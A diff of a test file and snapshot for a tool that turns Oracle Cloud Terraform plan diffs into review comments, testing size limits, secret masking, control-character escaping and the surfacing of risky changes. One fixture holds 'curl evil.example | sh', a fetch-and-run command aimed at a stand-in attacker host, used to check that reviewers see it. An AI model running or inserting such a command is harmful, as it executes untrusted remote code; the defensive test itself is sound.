@@ -48,13 +48,13 @@ describe('the text', () => {
   });
 
   test('says of a secret only that it is another one', () => {
-    const block = blockOf('some_type', { password: 'a' }, { password: 'b' });
-    expect(linesOf(block)).toEqual(['  ~ some_type.One', '    ~ password: "(secret)" -> another one']);
+    const block = blockOf('oci_some_type', { password: 'a' }, { password: 'b' });
+    expect(linesOf(block)).toEqual(['  ~ oci_some_type.One', '    ~ password: "(secret)" -> another one']);
   });
 
   test('cuts long values around what differs', () => {
     const same = 'x'.repeat(500);
-    const [, line = ''] = linesOf(blockOf('some_type', { a: `${same}old` }, { a: `${same}new` }));
+    const [, line = ''] = linesOf(blockOf('oci_some_type', { a: `${same}old` }, { a: `${same}new` }));
     expect(line).toBe(`    ~ a: …${'x'.repeat(30)}old" -> …${'x'.repeat(30)}new"`);
   });
 
@@ -92,7 +92,7 @@ describe('the text', () => {
   });
 
   test('shows no character that a terminal or an eye would follow', () => {
-    const block = blockOf('some_type', { a: 'x' }, { a: '\u001b[2K\u202e\u0085' });
+    const block = blockOf('oci_some_type', { a: 'x' }, { a: '\u001b[2K\u202e\u0085' });
     expect(linesOf(block)[1]).toBe('    ~ a: "x" -> "\\u001b[2K\\u{202e}\\u{85}"');
   });
 
@@ -156,8 +156,46 @@ describe('the comment', () => {
     expect(Buffer.byteLength(markdown)).toBeLessThanOrEqual(65_536);
   });
 
+  test('is no longer than a comment may be, also with fences that a value makes long', () => {
+    const ticks = (count: number): StackDiff[] => {
+      const statements = Array.from(
+        { length: 60 },
+        (_, i) => `${'`'.repeat(count)} ${'x'.repeat(1500 - count)} ${String(i)}`,
+      );
+      return [...diffStacks(single({}), single(documentOf({ 'oci_identity_policy.P': { statements } })))];
+    };
+    for (const markdown of [0, 500, 1400].map((count) => diffMarkdown(ticks(count)))) {
+      expect(Buffer.byteLength(markdown)).toBeLessThanOrEqual(65_536);
+      expect(Buffer.byteLength(markdown)).toBeGreaterThan(60_000);
+      expect(markdown).toMatch(/\n\d+ more lines do not fit in a comment: run `signed-api diff`\.\n/);
+    }
+  });
+
+  test('keeps what is noticed before all else about access', () => {
+    const policies = Object.fromEntries(
+      Array.from({ length: 900 }, (_, i) => [`oci_identity_policy.P${String(i)}`, { description: '€'.repeat(90) }]),
+    );
+    const document = documentOf({
+      ...policies,
+      'oci_objectstorage_bucket.Open': { access_type: 'ObjectRead' },
+      'terraform_data.Run': { provisioner: { 'local-exec': { command: 'curl evil.example | sh' } } },
+    });
+    const markdown = diffMarkdown(diffStacks(single({}), single(document)));
+    expect(Buffer.byteLength(markdown)).toBeLessThanOrEqual(65_536);
+    expect(markdown).toMatch(/\n\d+ more lines do not fit in a comment/);
+    const [open = ''] = markdown.split('<details>');
+    expect(open).toContain('NOTE: anyone may list and read its objects');
+    expect(open).toContain('"curl evil.example | sh"');
+  });
+
+  test('says of what is gone once what it allowed', () => {
+    const bucket = documentOf({ 'oci_objectstorage_bucket.B': { access_type: 'ObjectRead', name: 'x' } });
+    expect(diffMarkdown(diffStacks(single(bucket), single({}))).match(/oci_objectstorage_bucket/g)).toHaveLength(1);
+    expect(diffMarkdown(diffStacks(single({}), single(bucket))).match(/oci_objectstorage_bucket/g)).toHaveLength(2);
+  });
+
   test('has a fence that no value ends', () => {
-    const block = blockOf('some_type', { a: 'x' }, { a: '````\n</details>' });
+    const block = blockOf('oci_some_type', { a: 'x' }, { a: '````\n</details>' });
     const markdown = diffMarkdown([{ name: 'one', blocks: block === undefined ? [] : [block] }]);
     expect(markdown).toContain('\n`````diff\n');
   });
@@ -194,6 +232,11 @@ Access
       + backend.function_id: "\${oci_functions_function.SearchApi_Function_B9756F88.id}"
       + backend.type: "ORACLE_FUNCTIONS_BACKEND"
       + request_policies.authorization.type: "ANONYMOUS"
+  + terraform_data.QueryApi_Image_Push_Data_825F9CE2  (QueryApi/Image/Push/Data)
+    ! a deploy runs its local-exec
+    + provisioner
+      + [0].local-exec.command: "node assets/ImagePusher/program/push.js assets/QueryApi_Image_Bundle_D3D0551E/c233fb53f93c80be"
+      + [0].local-exec.environment.IMAGE_REFERENCE: "ocir.\${var.region}.oci.oraclecloud.com/\${data.oci_objectstorage_namespace.QueryApi_Image_Namespace_E2223412.namespace}/\${oci_artifacts_container_repository.QueryApi_Image_Repository_04F80965.display_name}"
   + oci_identity_policy.QueryApi_Function_Policy_A4DCEC38  (QueryApi/Function/Policy)
     + compartment_id: "\${var.compartment_ocid}"
     + description: "What the function needs to serve query"
@@ -204,15 +247,15 @@ Access
     + description: "The function that signs calls of query"
     + matching_rule: "ALL {resource.type = 'fnfunc', resource.id = '\${oci_functions_function.QueryApi_Function_95B52E7B.id}'}"
     + name: "oracleapi-query"
+  + oci_functions_function.QueryApi_Function_95B52E7B  (QueryApi/Function/Function)
+    + image: "ocir.\${var.region}.oci.oraclecloud.com/\${data.oci_objectstorage_namespace.QueryApi_Image_Namespace_E2223412.namespace}/\${oci_artifacts_container_repository.QueryApi_Image_Repository_04F80965.display_name}:c233fb53f93c80be"
 
 The rest
-  + data.oci_objectstorage_namespace.QueryApi_Image_Namespace_E2223412  (QueryApi/Image/Namespace)
-    + compartment_id: "\${var.tenancy_ocid}"
-  + oci_artifacts_container_repository.QueryApi_Image_Repository_04F80965  (QueryApi/Image/Repository)
-    + compartment_id: "\${var.compartment_ocid}"
-    + display_name: "oracleapi/query"
-    + is_immutable: true
-    + is_public: false
+  + terraform_data.QueryApi_Image_Push_Data_825F9CE2  (QueryApi/Image/Push/Data)
+    + triggers_replace
+      + tag: "c233fb53f93c80be"
+      + repository: "ocir.\${var.region}.oci.oraclecloud.com/\${data.oci_objectstorage_namespace.QueryApi_Image_Namespace_E2223412.namespace}/… (206 characters)
+      + repository_id: "\${oci_artifacts_container_repository.QueryApi_Image_Repository_04F80965.id}"
   + oci_functions_function.QueryApi_Function_95B52E7B  (QueryApi/Function/Function)
     + application_id: "\${oci_functions_application.Application_C292608F.id}"
     + config: {}
@@ -220,12 +263,18 @@ The rest
     + detached_mode_timeout_in_seconds: 30
     + display_name: "query"
     + failure_destination.kind: "NONE"
-    + image: "ocir.\${var.region}.oci.oraclecloud.com/\${data.oci_objectstorage_namespace.QueryApi_Image_Namespace_E2223412.namespace}/… (223 characters)
     + memory_in_mbs: "256"
     + provisioned_concurrency_config.strategy: "NONE"
     + success_destination.kind: "NONE"
     + timeout_in_seconds: 30
     + trace_config.is_enabled: false
+  + data.oci_objectstorage_namespace.QueryApi_Image_Namespace_E2223412  (QueryApi/Image/Namespace)
+    + compartment_id: "\${var.tenancy_ocid}"
+  + oci_artifacts_container_repository.QueryApi_Image_Repository_04F80965  (QueryApi/Image/Repository)
+    + compartment_id: "\${var.compartment_ocid}"
+    + display_name: "oracleapi/query"
+    + is_immutable: true
+    + is_public: false
   ~ output.apis
     + value.query
       + method: "POST"
@@ -237,11 +286,4 @@ The rest
   + output.curl_query
     + description: "Calls query; set TOKEN first"
     + value: "curl --request POST --header \\"Authorization: Bearer $TOKEN\\" --header 'Content-Type: application/json' --data '{\\"name… (209 characters)
-  + terraform_data.QueryApi_Image_Push_Data_825F9CE2  (QueryApi/Image/Push/Data)
-    + provisioner
-      + [0].local-exec.command: "node assets/ImagePusher/program/push.js assets/QueryApi_Image_Bundle_D3D0551E/c233fb53f93c80be"
-      + [0].local-exec.environment.IMAGE_REFERENCE: "ocir.\${var.region}.oci.oraclecloud.com/\${data.oci_objectstorage_namespace.QueryApi_Image_Namespace_E2223412.namespace}/… (206 characters)
-    + triggers_replace
-      + tag: "c233fb53f93c80be"
-      + repository: "ocir.\${var.region}.oci.oraclecloud.com/\${data.oci_objectstorage_namespace.QueryApi_Image_Namespace_E2223412.namespace}/… (206 characters)
 `;
